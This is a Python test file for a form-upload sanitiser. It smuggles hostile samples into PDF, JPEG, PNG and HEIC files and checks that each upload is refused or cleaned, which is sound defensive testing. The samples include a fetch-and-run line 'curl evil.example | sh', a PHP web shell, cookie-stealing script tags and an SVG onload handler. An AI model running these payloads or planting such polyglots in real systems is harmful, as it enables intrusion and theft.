"""The corpus of files that two programs read as two things: each is refused, or what is kept of it is one thing.

A program that opens what it was promised finds pages or a picture; another that looks for its own kind of file in the same bytes
must find nothing.
"""

import io
import zipfile
import zlib
from itertools import product

import pytest
from PIL import Image

from libs.common.errors import Invalid
from libs.common.files import kinds
from services.eapply.forms import uploads
from services.eapply.forms.definition import FormField
from services.eapply.tests.pictures import PDF, photograph

FIELD = FormField(key="paper", type="file", label="書類", accept=["pdf", "jpeg", "png", "heic"])


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as written:
        written.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil")
        written.writestr("evil.class", b"\xca\xfe\xba\xbe" + b"evil" * 400)
    return made.getvalue()


OTHERS = {
    "archive": archive(),
    "page with a script": b"<!doctype html><script>alert(document.cookie)</script>" + b"<!-- evil -->" * 90,
    "drawing with a script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>" + b"<!-- evil -->" * 90,
    "program of Windows": b"MZ\x90\x00\x03" + b"This program cannot be run in DOS mode. evil" * 30,
    "program of Linux": b"\x7fELF\x02\x01\x01" + b"evil" * 300,
    "script of a shell": b"#!/bin/sh\n" + b"curl evil.example | sh\n" * 50,
    "script of a server": b"<?php system($_GET['evil']); ?>" + b"/* evil */" * 100,
    "archive of another kind": b"Rar!\x1a\x07\x01\x00" + b"evil" * 300,
    "picture of another kind": b"GIF89a/*\x00\x01\x00*/=alert('evil');" + b"// evil" * 150,
}


def in_a_pdf(other: bytes) -> bytes:
    return PDF.replace(b"trailer", b"9 0 obj<</Length %d>>stream\n%s\nendstream endobj\ntrailer" % (len(other), other))


def in_a_jpeg(other: bytes) -> bytes:
    """In a comment, right after the start of the picture."""
    picture = photograph()
    return picture[:2] + b"\xff\xfe" + (len(other) + 2).to_bytes(2, "big") + other + picture[2:]


def in_a_png(other: bytes) -> bytes:
    """In a text chunk before the end of the picture."""
    picture, body = photograph(format_="PNG"), b"Comment\0" + other
    chunk = len(body).to_bytes(4, "big") + b"tEXt" + body + zlib.crc32(b"tEXt" + body).to_bytes(4, "big")
    return picture[:-12] + chunk + picture[-12:]


def in_a_heic(other: bytes) -> bytes:
    """In a free box (ISO 14496-12, 8.1.2) at the end."""
    return photograph(format_="HEIF") + (len(other) + 8).to_bytes(4, "big") + b"free" + other


CARRIERS = {
    "pdf": (PDF, in_a_pdf),
    "jpeg": (photograph(), in_a_jpeg),
    "png": (photograph(format_="PNG"), in_a_png),
    "heic": (photograph(format_="HEIF"), in_a_heic),
}


def joined(carrier: str, other: str, way: str) -> bytes:
    alone, within = CARRIERS[carrier]
    return {"before": OTHERS[other] + alone, "behind": alone + OTHERS[other], "within": within(OTHERS[other])}[way]


CORPUS = list(product(CARRIERS, OTHERS, ("before", "behind", "within")))


def second_things(kept: bytes, other: str) -> list[str]:
    """What another program would find in what is kept."""
    found = ["archive"] if zipfile.is_zipfile(io.BytesIO(kept)) else []
    is_pdf = kinds.media_type_of(kept[: kinds.HEAD]) == "application/pdf"
    seen = kept.rpartition(b"%%EOF")[2] if is_pdf else kept
    if b"evil" in seen or kinds.media_type_of(kept[: kinds.HEAD]) not in {"application/pdf", "image/jpeg", "image/png"}:
        found.append(other)
    return found


@pytest.mark.parametrize(("carrier", "other", "way"), CORPUS)
def test_it_is_refused_or_becomes_one_thing(carrier: str, other: str, way: str) -> None:
    content = joined(carrier, other, way)
    try:
        kept = uploads.prepared(FIELD, io.BytesIO(content), len(content)).read()
    except Invalid as refusal:
        assert refusal.code in {"wrong-file-type", "more-than-a-pdf", "broken-picture"}
        assert way == "before" or carrier in {"pdf", "heic"}, "a picture with a comment is taken, without the comment"
        return
    assert way != "before" and second_things(kept, other) == []


@pytest.mark.parametrize("carrier", CARRIERS)
def test_alone_it_is_taken(carrier: str) -> None:
    content = CARRIERS[carrier][0]
    kept = uploads.prepared(FIELD, io.BytesIO(content), len(content)).read()
    assert second_things(kept, "anything") == []
    assert kept == content if carrier == "pdf" else Image.open(io.BytesIO(kept)).size in {(64, 48), (48, 64)}


def test_a_pdf_with_little_behind_its_end_is_taken_and_one_of_two_versions_too() -> None:
    """Scanners leave zeros there, a signature adds a second end."""
    for content in (PDF + b"\0" * 5000, PDF + b"\r\n\x1a", PDF + b"5 0 obj<</Type/Sig>>endobj\n" * 99 + b"%%EOF\n"):
        assert uploads.prepared(FIELD, io.BytesIO(content), len(content)).read() == content


def test_most_of_the_corpus_would_be_found_if_files_were_kept_as_they_came() -> None:
    """So that a search that finds nothing has been seen to find something."""
    assert len(CORPUS) == 108
    kept = [second_things(joined(*each), each[1]) != [] for each in CORPUS]
    assert sum(kept) > 90
